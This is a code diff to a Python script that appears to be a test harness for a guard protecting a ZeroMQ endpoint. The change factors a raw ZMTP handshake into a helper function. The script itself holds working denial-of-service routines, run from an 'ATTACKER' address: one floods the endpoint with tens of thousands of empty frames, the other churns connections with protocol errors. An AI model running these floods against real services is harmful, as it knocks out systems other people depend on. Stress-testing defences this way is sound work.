@@ -110,33 +110,48 @@ def s_ready(socket_type):
     return b"\x04" + bytes([len(body)]) + body
 
 
+def s_handshake(endpoint, socket_type):
+    """A raw TCP connection from ATTACKER to endpoint that has done the ZMTP
+    handshake as socket_type: the door's greeting and READY read first, as
+    libzmq drops a peer whose frames arrive before its handshake is done.
+    Raises OSError if the door closes it meanwhile."""
+    host, port = endpoint.replace("tcp://", "").rsplit(":", 1)
+    raw = socket.socket()
+    try:
+        raw.bind((ATTACKER, 0))
+        raw.settimeout(1)
+        raw.connect((host, int(port)))
+        raw.sendall(s_greeting() + s_ready(socket_type))
+        answer = b""
+        while len(answer) < 64 + 8:
+            piece = raw.recv(256)
+            if not piece:
+                raise OSError("closed during the handshake")
+            answer += piece
+    except OSError:
+        raw.close()
+        raise
+    return raw
+
+
 def multipart(args):
-    host, port = args.endpoint.replace("tcp://", "").rsplit(":", 1)
     frames = b"\x01\x00" * 32768              # 32,768 empty frames, "more" set
     sent = cuts = 0
     deadline = time.monotonic() + args.seconds
     while time.monotonic() < deadline:
         try:
-            raw = socket.socket()
-            raw.bind((ATTACKER, 0))
-            raw.settimeout(1)
-            raw.connect((host, int(port)))
-            raw.sendall(s_greeting() + s_ready(args.type))
-            # the door's greeting and READY first: libzmq drops a peer whose
-            # frames arrive before its handshake is done
-            answer = b""
-            while len(answer) < 64 + 8:
-                piece = raw.recv(256)
-                if not piece:
-                    raise OSError("closed during the handshake")
-                answer += piece
+            raw = s_handshake(args.endpoint, args.type)
+        except OSError:
+            cuts += 1
+            continue
+        try:
             raw.settimeout(0.2)
             while time.monotonic() < deadline and (not args.max_bytes
                                                     or sent < args.max_bytes):
                 sent += raw.send(frames)
             if args.max_bytes and sent >= args.max_bytes:
                 time.sleep(max(0, deadline - time.monotonic()))
-        except (OSError, socket.timeout):
+        except OSError:
             cuts += 1
         finally:
             raw.close()
@@ -148,27 +163,19 @@ def churn(args):
     0xff: a protocol error, so libzmq drops the connection at once), and
     again, as fast as it can: what the door's connections cost when they
     come and go, each shorter than one of the guard's checks."""
-    host, port = args.endpoint.replace("tcp://", "").rsplit(":", 1)
     connections = 0
     deadline = time.monotonic() + args.seconds
     while time.monotonic() < deadline:
-        raw = socket.socket()
         try:
-            raw.bind((ATTACKER, 0))
-            raw.settimeout(1)
-            raw.connect((host, int(port)))
-            raw.sendall(s_greeting() + s_ready(args.type))
-            answer = b""
-            while len(answer) < 64 + 8:
-                piece = raw.recv(256)
-                if not piece:
-                    raise OSError("closed during the handshake")
-                answer += piece
+            raw = s_handshake(args.endpoint, args.type)
+        except OSError:
+            continue
+        try:
             raw.sendall(b"\xff" * 256)
             connections += 1
             while raw.recv(4096):
                 pass
-        except (OSError, socket.timeout):
+        except OSError:
             pass
         finally:
             raw.close()
